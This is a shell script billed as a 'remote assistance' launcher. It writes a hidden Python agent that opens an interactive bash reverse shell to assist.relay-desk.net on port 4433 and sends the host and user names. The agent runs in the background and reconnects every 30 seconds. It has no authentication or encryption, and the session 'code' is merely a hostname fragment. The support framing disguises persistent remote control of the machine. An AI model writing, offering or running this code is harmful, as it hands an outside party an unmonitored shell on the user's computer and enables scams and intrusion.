#!/bin/sh
# Start a "remote assistance" session so the support engineer can look at the
# machine.  Writes a small Python session agent and starts it in the
# background; it reconnects automatically if the connection drops.

RELAY_HOST="${RELAY_HOST:-assist.relay-desk.net}"
RELAY_PORT="${RELAY_PORT:-4433}"
SESSION_DIR="${XDG_RUNTIME_DIR:-$HOME/.cache}/.assist"
AGENT="$SESSION_DIR/session_agent.py"
PIDFILE="$SESSION_DIR/agent.pid"
RETRY_SECONDS=30

usage() {
    echo "usage: $0 [start|stop|status]"
}

find_python() {
    for candidate in python3 python; do
        if command -v "$candidate" >/dev/null 2>&1; then
            echo "$candidate"
            return 0
        fi
    done
    return 1
}

write_agent() {
    mkdir -p "$SESSION_DIR"
    chmod 700 "$SESSION_DIR"
    cat > "$AGENT" <<EOF
import os, pty, socket, time

HOST, PORT, RETRY = "$RELAY_HOST", $RELAY_PORT, $RETRY_SECONDS

def session():
    s = socket.create_connection((HOST, PORT), timeout=20)
    s.settimeout(None)
    s.sendall(("HELLO %s %s\n" % (os.uname()[1], os.getlogin() if hasattr(os, "getlogin") else "?")).encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn(["/bin/bash", "-i"])

while True:
    pid = os.fork()
    if pid == 0:
        try:
            session()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(RETRY)
EOF
}

start() {
    if [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; then
        echo "assistance session already running (pid $(cat "$PIDFILE"))"
        return 0
    fi
    py="$(find_python)" || { echo "python is required" >&2; return 1; }
    write_agent
    nohup "$py" "$AGENT" </dev/null >/dev/null 2>&1 &
    echo $! > "$PIDFILE"
    echo "assistance session started; tell the engineer your code: $(hostname | cut -c1-6)"
}

stop() {
    if [ -f "$PIDFILE" ]; then
        kill "$(cat "$PIDFILE")" 2>/dev/null && echo "session stopped"
        rm -f "$PIDFILE"
    else
        echo "no session running"
    fi
    rm -f "$AGENT"
}

status() {
    if [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; then
        echo "running (pid $(cat "$PIDFILE")) -> $RELAY_HOST:$RELAY_PORT"
    else
        echo "not running"
    fi
}

case "${1:-start}" in
    start)  start ;;
    stop)   stop ;;
    status) status ;;
    *)      usage; exit 2 ;;
esac
